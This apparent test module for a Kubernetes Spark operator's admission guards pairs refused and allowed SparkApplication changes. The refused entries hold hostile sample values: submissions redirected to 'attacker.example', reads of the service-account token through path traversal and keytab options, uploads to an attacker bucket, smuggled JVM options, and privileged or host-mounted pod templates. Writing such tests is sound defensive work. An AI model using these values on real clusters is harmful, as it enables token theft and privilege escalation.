"""Attempts with applications: a field, a value, and what refuses it."""

from collections.abc import Iterator
from typing import Any

from tests.tiers.cluster.api import Object
from tests.tiers.operator.attempts import Attempt, Guard

MODE = "spec.mode must be cluster"
MAIN_FILE = "spec.mainApplicationFile must begin with"
MAIN_CLASS = "spec.mainClass must not be"
FILES = "spec.deps and the files in spec.sparkConf"
MAVEN = "spec.deps.packages and repositories"
KEYS = "spec.sparkConf has keys that spark-submit reads in the operator's pod"
HADOOP = "spec.hadoopConf has keys"
OPTIONS = "JVM options must not set"
CONFIG_MAP = "spec.sparkConfigMap cannot be checked"
TEMPLATE = "spec.{}.template may only request ephemeral-storage"
PROXY_USER = "spec.proxyUser is not supported"
DRIVER_MASTER = "spec.driver.kubernetesMaster is not supported"
PUBLISHED = "must not publish the driver"
INSTANCES = "spec.executor.instances is above"
DYNAMIC = "spec.dynamicAllocation needs maxExecutors"
INITIAL = "spec.dynamicAllocation.initialExecutors is above"
CONF_COUNT = "executors in spec.sparkConf are above"
CONF_DYNAMIC = "spec.sparkConf enables dynamic allocation"
KIND = "only SparkApplications and ScheduledSparkApplications"
NOT_EVALUATED = "expression '"

_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
_ACCOUNT = "spark.kubernetes.authenticate"


def conf(key: str, value: str) -> dict[str, Any]:
    """The change that sets a key of `sparkConf`."""
    return {"sparkConf": {key: value}}


def template_container(role: str, **fields: Any) -> dict[str, Any]:
    """Spark's container in a pod template."""
    return {"name": f"spark-kubernetes-{role}", **fields}


REFUSED: dict[str, tuple[dict[str, Any], Guard, str]] = {
    # The job in the operator's pod
    "client mode": ({"mode": "client"}, "policy", MODE),
    "no mode, and a status against the default": (
        {
            "mode": None,
            "status": {
                "applicationState": {"state": "RUNNING"},
                "driverInfo": {},
                "lastSubmissionAttemptTime": "2026-01-01T00:00:00Z",
                "terminationTime": None,
            },
        },
        "policy",
        MODE,
    ),
    "a shell with a carriage return": (
        {"mainClass": "org.apache.spark\r.repl.Main"},
        "policy",
        MAIN_CLASS,
    ),
    "in-cluster client mode": ({"mode": "in-cluster-client"}, "CRD", "Unsupported value"),
    "another mode": ({"mode": "CLIENT"}, "CRD", "Unsupported value"),
    "an option as the main file": (
        {"mainApplicationFile": "--deploy-mode=client", "arguments": ["local:///opt/x.py"]},
        "policy",
        MAIN_FILE,
    ),
    "an option after a blank": ({"mainApplicationFile": " --verbose"}, "policy", MAIN_FILE),
    "a shell as the main file": ({"mainApplicationFile": "pyspark-shell"}, "policy", MAIN_FILE),
    "no main file": ({"mainApplicationFile": ""}, "policy", MAIN_FILE),
    "Spark's SQL shell": (
        {
            "mainClass": "org.apache.spark.sql.hive.thriftserver.SparkSQLCLIDriver",
            "arguments": ["--deploy-mode", "client"],
        },
        "policy",
        MAIN_CLASS,
    ),
    "Spark's Scala shell": ({"mainClass": "org.apache.spark.repl.Main"}, "policy", MAIN_CLASS),
    "spark-submit again": (
        {"mainClass": " org.apache.spark.deploy.SparkSubmit"},
        "policy",
        MAIN_CLASS,
    ),
    "client mode as a key": (conf("spark.submit.deployMode", "client"), "policy", KEYS),
    # Where spark-submit goes and as whom
    "another API server": (
        conf("spark.master", "k8s://https://attacker.example"),
        "policy",
        KEYS,
    ),
    "another API server, behind an equals sign": (
        conf("spark.master=k8s://https://attacker.example?a", "b"),
        "policy",
        KEYS,
    ),
    "Spark Connect": (conf("spark.remote", "sc://attacker.example"), "policy", KEYS),
    "a token file": (
        conf(f"{_ACCOUNT}.driver.oauthTokenFile", _TOKEN),
        "policy",
        KEYS,
    ),
    "the submission's token": (conf(f"{_ACCOUNT}.submission.oauthToken", "x"), "policy", KEYS),
    "the submission's key": (
        conf(f"{_ACCOUNT}.submission.clientKeyFile", _TOKEN),
        "policy",
        KEYS,
    ),
    "a file as the driver's authority": (
        conf(f"{_ACCOUNT}.driver.caCertFile", _TOKEN),
        "policy",
        KEYS,
    ),
    "a file as the driver's key": (
        conf(f"{_ACCOUNT}.driver.clientKeyFile", _TOKEN),
        "policy",
        KEYS,
    ),
    "another account by key": (
        conf(f"{_ACCOUNT}.driver.serviceAccountName", "default"),
        "policy",
        KEYS,
    ),
    "another account, behind an equals sign": (
        conf(f"{_ACCOUNT}.driver.serviceAccountName=default", ""),
        "policy",
        KEYS,
    ),
    "another namespace": (
        conf("spark.kubernetes.namespace", "kube-system"),
        "webhook",
        "must equal the application namespace",
    ),
    "another context": (conf("spark.kubernetes.context", "admin"), "policy", KEYS),
    "any certificate": (conf("spark.kubernetes.trust.certificates", "true"), "policy", KEYS),
    "the driver's own submission": (
        conf("spark.kubernetes.submitInDriver", "true"),
        "policy",
        KEYS,
    ),
    "a submission that waits": (
        conf("spark.kubernetes.submission.requestTimeout", "999999999"),
        "policy",
        KEYS,
    ),
    "an image by key": (
        conf("spark.kubernetes.container.image", "x"),
        "policy",
        KEYS,
    ),
    "another API server for the driver": (
        {"driver": {"kubernetesMaster": "https://attacker.example"}},
        "policy",
        DRIVER_MASTER,
    ),
    "a proxy user": ({"proxyUser": "admin"}, "policy", PROXY_USER),
    # Files of the operator's pod
    "a token as Kerberos configuration": (
        conf("spark.kubernetes.kerberos.krb5.path", _TOKEN),
        "policy",
        KEYS,
    ),
    "a token as keytab": (conf("spark.kerberos.keytab", _TOKEN), "policy", KEYS),
    "a token as keytab, by its old name": (conf("spark.yarn.keytab", _TOKEN), "policy", KEYS),
    "a token as pod template": (
        conf("spark.kubernetes.executor.podTemplateFile", _TOKEN),
        "policy",
        KEYS,
    ),
    "uploads": (conf("spark.kubernetes.file.upload.path", "s3a://attacker"), "policy", KEYS),
    "a file of the pod": ({"deps": {"files": [f"file://{_TOKEN}"]}}, "policy", FILES),
    "a file of the pod that is no URI": (
        {"deps": {"files": [f"local:///^/../../..{_TOKEN}"]}},
        "policy",
        FILES,
    ),
    "the main file that is no URI": (
        {"mainApplicationFile": f"local:///a^/../../..{_TOKEN}"},
        "policy",
        MAIN_FILE,
    ),
    "a file behind another blank": (
        conf("spark.files", f"\u00a0local:///../..{_TOKEN}"),
        "policy",
        FILES,
    ),
    "a file without a scheme": ({"deps": {"files": [_TOKEN]}}, "policy", FILES),
    "a second file behind a comma": (
        {"deps": {"files": [f"local:///opt/a,{_TOKEN}"]}},
        "policy",
        FILES,
    ),
    "a file in sparkConf": (conf("spark.files", f"file://{_TOKEN}"), "policy", FILES),
    "a second file in sparkConf": (
        conf("spark.files", f"local:///opt/a, file://{_TOKEN}"),
        "policy",
        FILES,
    ),
    "a Python file in sparkConf": (conf("spark.submit.pyFiles", _TOKEN), "policy", FILES),
    "an archive": ({"deps": {"archives": [f"{_TOKEN}#x"]}}, "policy", FILES),
    "the main file of the pod": ({"mainApplicationFile": f"file://{_TOKEN}"}, "policy", MAIN_FILE),
    "the main file without a scheme": ({"mainApplicationFile": _TOKEN}, "policy", MAIN_FILE),
    # Requests from the operator's pod, and code in it
    "a JAR over HTTP": ({"deps": {"jars": ["http://10.0.0.1/x.jar"]}}, "policy", FILES),
    "a JAR over HTTP in sparkConf": (conf("spark.jars", "http://10.0.0.1/x.jar"), "policy", FILES),
    "files of another Hadoop": ({"deps": {"pyFiles": ["hdfs://10.0.0.1/x*"]}}, "policy", FILES),
    "a JAR from S3": ({"deps": {"jars": ["s3a://lake/x.jar"]}}, "policy", FILES),
    "the main file over HTTP": ({"mainApplicationFile": "http://10.0.0.1/x"}, "policy", MAIN_FILE),
    "the main file over HTTPS": (
        {"mainApplicationFile": "https://a.example/x"},
        "policy",
        MAIN_FILE,
    ),
    "the main file over FTP": ({"mainApplicationFile": "ftp://10.0.0.1/x"}, "policy", MAIN_FILE),
    "packages": ({"deps": {"packages": ["a:b:1"]}}, "policy", MAVEN),
    "a repository": ({"deps": {"repositories": ["http://10.0.0.1"]}}, "policy", MAVEN),
    "packages in sparkConf": (conf("spark.jars.packages", "a:b:1"), "policy", KEYS),
    "a repository in sparkConf": (conf("spark.jars.repositories", "http://x"), "policy", KEYS),
    "Ivy's settings": (conf("spark.jars.ivySettings", "http://10.0.0.1/x"), "policy", KEYS),
    "Ivy's folder": (conf("spark.jars.ivy", "/tmp"), "policy", KEYS),
    "a step of the submission": (
        conf("spark.kubernetes.driver.pod.featureSteps", "x.Step"),
        "policy",
        KEYS,
    ),
    "Volcano's pod group file": (
        conf("spark.kubernetes.scheduler.volcano.podGroupTemplateFile", _TOKEN),
        "policy",
        KEYS,
    ),
    "Hadoop's group mapping": (
        {"hadoopConf": {"hadoop.security.group.mapping": "x.Mapping"}},
        "policy",
        HADOOP,
    ),
    "Hadoop's credential provider": (
        {"hadoopConf": {"hadoop.security.credential.provider.path": f"jceks://file{_TOKEN}"}},
        "policy",
        HADOOP,
    ),
    "Hadoop's credential provider as a key of Spark": (
        conf("spark.hadoop.hadoop.security.credential.provider.path", "jceks://hdfs@x/y"),
        "policy",
        KEYS,
    ),
    "a Hadoop key with an equals sign": ({"hadoopConf": {"a=b": "c"}}, "policy", HADOOP),
    "delegation tokens": (conf("spark.security.credentials.x.enabled", "true"), "policy", KEYS),
    "a key that is not Spark's": (conf("hive.metastore.uris", "x"), "policy", KEYS),
    "a key with a blank": (conf(" spark.master", "x"), "policy", KEYS),
    "a key of a later Spark": (conf("spark.kubernetes.later", "x"), "policy", KEYS),
    # More executors than the team may have
    "too many executors": ({"executor": {"instances": 500}}, "policy", INSTANCES),
    "too many executors by key": (conf("spark.executor.instances", "500"), "policy", CONF_COUNT),
    "blanks around a number": (conf("spark.executor.instances", " 500\t"), "policy", CONF_COUNT),
    "other digits": (conf("spark.executor.instances", "５００"), "policy", NOT_EVALUATED),
    "a reference as number": (
        conf("spark.executor.instances", "${spark.n}"),
        "policy",
        NOT_EVALUATED,
    ),
    "a number that is none": (conf("spark.executor.instances", "1e3"), "policy", NOT_EVALUATED),
    "initial executors by key": (
        conf("spark.dynamicAllocation.initialExecutors", "500"),
        "policy",
        CONF_COUNT,
    ),
    "minimum executors by key": (
        conf("spark.dynamicAllocation.minExecutors", "500"),
        "policy",
        CONF_COUNT,
    ),
    "unlimited executors": ({"dynamicAllocation": {"enabled": True}}, "policy", DYNAMIC),
    "too many dynamic executors": (
        {"dynamicAllocation": {"enabled": True, "maxExecutors": 500}},
        "policy",
        DYNAMIC,
    ),
    "too many at first": (
        {"dynamicAllocation": {"enabled": True, "maxExecutors": 2, "initialExecutors": 500}},
        "policy",
        INITIAL,
    ),
    **{
        f"dynamic allocation as {value!r}": (
            conf("spark.dynamicAllocation.enabled", value),
            "policy",
            CONF_DYNAMIC,
        )
        for value in ("true", "TRUE", " True\n", "\ttrue ", "${spark.x}", "yes")
    },
    "dynamic allocation of streams": (
        conf("spark.streaming.dynamicAllocation.enabled", "true"),
        "policy",
        KEYS,
    ),
    **{
        f"dynamic allocation in {place}": (change, "policy", OPTIONS)
        for place, change in {
            "the driver's options": {
                "driver": {"javaOptions": "-Dspark.dynamicAllocation.enabled=true"}
            },
            "the executor's options": {"executor": {"javaOptions": "-Xss4m -Dspark.x=y"}},
            "quoted options": {
                "driver": {"javaOptions": '-D"spark.dynamicAllocation.enabled=true"'}
            },
            "escaped options": {"driver": {"javaOptions": '"-D\\spark.executor.instances=500"'}},
            "options with a carriage return": {"driver": {"javaOptions": "-D\rspark.a=b"}},
            "options with a vertical tab": {"driver": {"javaOptions": "-Xss4m\u000b@/opt/x"}},
            "a variable in options": {"driver": {"javaOptions": "-D$(P)a=b"}},
            "a file of options": {"driver": {"javaOptions": "@/opt/options"}},
            "a file of flags": {"driver": {"javaOptions": "-XX:Flags=/opt/flags"}},
            "another file of flags": {"driver": {"javaOptions": "-XX:VMOptionsFile=/opt/flags"}},
            "options by key": conf("spark.driver.extraJavaOptions", "-Dspark.a=b"),
            "default options": conf("spark.driver.defaultJavaOptions", "-Dspark.a=b"),
            "the executor's options by key": conf("spark.executor.extraJavaOptions", "-Dspark.a=b"),
            "a reference": conf("spark.driver.extraJavaOptions", "${spark.a}"),
            "the exporter's path": {
                "monitoring": {
                    "exposeDriverMetrics": True,
                    "exposeExecutorMetrics": False,
                    "prometheus": {"jmxExporterJar": "/x.jar=1:/y -Dspark.a=b -javaagent:/x.jar"},
                }
            },
        }.items()
    },
    "a ConfigMap with Spark's configuration": ({"sparkConfigMap": "conf"}, "policy", CONFIG_MAP),
    # The driver, published by the operator's account
    "an ingress": (
        {
            "driverIngressOptions": [
                {"servicePort": 4040, "servicePortName": "ui", "ingressURLFormat": "a.example"}
            ]
        },
        "policy",
        PUBLISHED,
    ),
    "annotations of an ingress": (
        {"sparkUIOptions": {"ingressAnnotations": {"a": "b"}}},
        "policy",
        PUBLISHED,
    ),
    "a certificate of an ingress": (
        {"sparkUIOptions": {"ingressTLS": [{"secretName": "x"}]}},
        "policy",
        PUBLISHED,
    ),
    "a load balancer": ({"sparkUIOptions": {"serviceType": "LoadBalancer"}}, "policy", PUBLISHED),
    # What a pod template would set beside the application's fields
    **{
        f"{name} in a template of the {role}": (
            {role: {"template": {"spec": spec}}},
            "policy",
            TEMPLATE.format(role),
        )
        for role in ("driver", "executor")
        for name, spec in {
            "a folder of the node": {"volumes": [{"name": "x", "hostPath": {"path": "/"}}]},
            "a token": {"volumes": [{"name": "x", "projected": {"sources": []}}]},
            "an account": {"serviceAccountName": "other"},
            "a node": {"nodeName": "system"},
            "tolerations": {"tolerations": [{"operator": "Exists"}]},
            "a selector": {"nodeSelector": {"a": "b"}},
            "a pod's security context": {"securityContext": {"runAsUser": 0}},
            "the node's network": {"hostNetwork": True},
            "an init container": {"initContainers": [{"name": "x", "image": "x"}]},
            "a priority": {"priorityClassName": "system-node-critical"},
            "a runtime": {"runtimeClassName": "x"},
            "a scheduler": {"schedulerName": "x"},
            "a second container": {
                "containers": [template_container(role), {"name": "x", "image": "x"}]
            },
            "another container": {"containers": [{"name": "x"}]},
            **{
                f"a container's {field}": {
                    "containers": [template_container(role, **{field: value})]
                }
                for field, value in {
                    "image": "x",
                    "command": ["sh"],
                    "envFrom": [{"configMapRef": {"name": "x"}}],
                    "env": [{"name": "A", "value": "b"}],
                    "securityContext": {"privileged": True},
                    "volumeMounts": [{"name": "x", "mountPath": "/x"}],
                    "lifecycle": {},
                    "ports": [{"containerPort": 80, "hostPort": 80}],
                }.items()
            },
            "a device": {
                "containers": [
                    template_container(role, resources={"limits": {"nvidia.com/gpu": "1"}})
                ]
            },
            "resource claims": {
                "containers": [template_container(role, resources={"claims": [{"name": "x"}]})]
            },
        }.items()
    },
    "owners of another's in a template": (
        {"driver": {"template": {"metadata": {"ownerReferences": []}, "spec": {}}}},
        "policy",
        TEMPLATE.format("driver"),
    ),
    # Names
    "a name that is no label": ({"metadata": {"name": "Job.A"}}, "CRD", "Invalid value"),
    "a name that no service can have": ({"metadata": {"name": "1-job"}}, "webhook", "DNS-1035"),
    "a field of a later version": ({"hostPID": True}, "CRD", "unknown field"),
}
"""The change of a job that is right, who refuses it, and the message."""

ALLOWED: dict[str, dict[str, Any]] = {
    "a job that is right": {},
    "its own files": {"deps": {"jars": ["local:///mnt/s3/jars/r/a.jar"]}},
    "a script in S3": {"mainApplicationFile": "s3a://lake/scripts/etl.py"},
    "Spark's examples": {"mainClass": "org.apache.spark.examples.SparkPi"},
    "no files in sparkConf": conf("spark.files", ""),
    "files in sparkConf": conf("spark.jars", "local:///mnt/s3/jars/r/a.jar, local:///opt/b.jar"),
    "as many executors as allowed": {"executor": {"instances": 20}},
    "as many by key": conf("spark.executor.instances", " 20 "),
    "dynamic allocation off": conf("spark.dynamicAllocation.enabled", " FALSE "),
    "dynamic allocation within": {"dynamicAllocation": {"enabled": True, "maxExecutors": 20}},
    "options": {"driver": {"javaOptions": "-XX:+UseG1GC -Dlog4j2.level=info -javaagent:/x.jar=1"}},
    "an S3 provider": {"hadoopConf": {"fs.s3a.aws.credentials.provider": "x.Provider"}},
    "a catalog": conf("spark.sql.catalog.lake.uri", "https://catalog.example/api"),
    "a claim on demand": conf(
        "spark.kubernetes.executor.volumes.persistentVolumeClaim.spark-local-dir-1.mount.path", "/d"
    ),
    "a label": conf("spark.kubernetes.driver.label.app.kubernetes.io/name", "x"),
    "no template": {"driver": {"template": None}, "executor": {"template": {}}},
    "a template as other programs write one": {
        "driver": {
            "template": {
                "metadata": {"creationTimestamp": None},
                "spec": {"containers": [template_container("driver", resources={})]},
            }
        }
    },
    "a template that spreads executors": {
        "executor": {
            "template": {
                "spec": {
                    "topologySpreadConstraints": [
                        {
                            "maxSkew": 1,
                            "topologyKey": "topology.kubernetes.io/zone",
                            "whenUnsatisfiable": "ScheduleAnyway",
                        }
                    ],
                    "containers": [
                        template_container(
                            "executor",
                            resources={
                                "requests": {"ephemeral-storage": "50Gi"},
                                "limits": {"ephemeral-storage": "60Gi"},
                            },
                        )
                    ],
                }
            }
        }
    },
    "its own arguments": {"arguments": ["--deploy-mode", "client", "--conf", "spark.master=x"]},
}


def attempts(job: Object) -> Iterator[Attempt]:
    """Every attempt with the job, as an application and, where it stands in the spec, in a
    schedule."""
    for name, (change, guard, says) in REFUSED.items():
        yield Attempt(name, "person", "create", changed(job, change), guard, says)
        # The operator's webhook does not know the modes of a schedule's template.
        in_template = not {"metadata", "status"} & change.keys()
        if in_template and guard in ("policy", "CRD"):
            scheduled = schedule(changed(job, change))
            yield Attempt(f"{name}, on a schedule", "person", "create", scheduled, guard, says)
    for name, change in ALLOWED.items():
        yield Attempt(name, "person", "create", changed(job, change))
        yield Attempt(f"{name}, on a schedule", "person", "create", schedule(changed(job, change)))
    yield Attempt("Spark Connect's server", "person", "create", connect(job), "policy", KIND)
    for who in ("spark-driver", "spark-executor"):
        yield Attempt(f"a job by {who}", who, "create", job, "RBAC", "cannot create resource")


def changed(job: Object, change: dict[str, Any]) -> Object:
    """The job with parts of its spec, or its metadata, replaced; sections are merged."""
    metadata = {**job["metadata"], **change.get("metadata", {})}
    spec = dict(job["spec"])
    for key, value in change.items():
        if value is None:
            del spec[key]
        elif key not in ("metadata", "status"):
            merged = key in ("driver", "executor", "sparkConf", "hadoopConf")
            spec[key] = {**spec.get(key, {}), **value} if merged else value
    status = {"status": change["status"]} if "status" in change else {}
    return {**job, "metadata": metadata, "spec": spec, **status}


def schedule(job: Object) -> Object:
    """A schedule of the job."""
    return {
        **job,
        "kind": "ScheduledSparkApplication",
        "spec": {"schedule": "@every 1h", "template": job["spec"]},
    }


def connect(job: Object) -> Object:
    """A Spark Connect server with the job's image."""
    return {
        "apiVersion": "sparkoperator.k8s.io/v1alpha1",
        "kind": "SparkConnect",
        "metadata": job["metadata"],
        "spec": {
            "sparkVersion": "4.0.1",
            "image": job["spec"]["image"],
            "server": {},
            "executor": {"instances": 500},
        },
    }
